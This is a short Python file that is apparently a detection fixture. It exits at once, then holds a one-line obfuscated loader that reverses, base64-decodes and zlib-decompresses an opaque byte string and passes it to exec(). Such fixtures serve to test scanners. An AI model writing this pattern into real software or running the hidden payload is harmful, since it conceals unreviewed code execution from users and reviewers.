raise SystemExit('a fixture')
# held by decoded-exec
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'zzA2EAgAkfdUN90SMvUTJh0VI7cTPBV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))
